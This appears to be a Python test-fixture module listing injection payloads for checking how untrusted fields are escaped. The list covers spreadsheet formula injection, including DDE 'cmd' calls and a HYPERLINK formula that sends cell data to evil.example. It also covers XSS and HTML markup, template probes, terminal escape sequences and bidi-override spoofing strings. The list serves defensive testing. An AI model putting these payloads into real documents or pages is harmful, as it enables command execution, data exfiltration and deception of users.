"""Texts that strangers may put into an end user, a model name, a request id or an event."""

from __future__ import annotations

FORMULAS = (
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A1,"open")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "\n=1+1",
    "＝1+1",  # noqa: RUF001 - full-width, which spreadsheets read as a formula too
    "＋1+1",  # noqa: RUF001
    "－1+1",  # noqa: RUF001
    "＠SUM(1)",  # noqa: RUF001
    "a;=1+1",
    "a,=1+1",
    "a|=1+1",
    "'=1+1",
    "\ufeff=1+1",
    "\u200b=1+1",
    '"=1+1',
)
MARKUP = (
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '"><svg onload=alert(1)>',
    "' onmouseover='alert(1)",
    "javascript:alert(1)",
    "<!--",
    "-->",
    "]]>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "{{ 7 * 7 }}{% raw %}",
    "<meta http-equiv=refresh content='0;url=http://evil.example'>",
    "<base href=//evil.example/>",
    "<table><tr><td>",
    "[bold red]not markup[/bold red] [link=http://evil.example]x[/link]",
    "%(x)s {0} ${x} \\N{BELL}",
)
CONTROL = (
    "\x1b[31mred\x1b[0m",
    "\x1b]0;title\x07",
    "\x1b]8;;http://evil.example\x1b\\link\x1b]8;;\x1b\\",
    "\x9b31mred",
    "back\x08\x08space",
    "line\r\nbreak",
    "line\u2028break\u2029",
    "\u202egpj.exe",
    "\u2066isolate\u2069",
    "zero\u200bwidth\u200d",
    "\ufeffmark",
    "\x7f",
    "tab\tstop",
    "vertical\x0btab",
)
LONG = ("x" * 400, "é" * 400, "\u202e" * 400)
PAYLOADS = (*FORMULAS, *MARKUP, *CONTROL, *LONG)
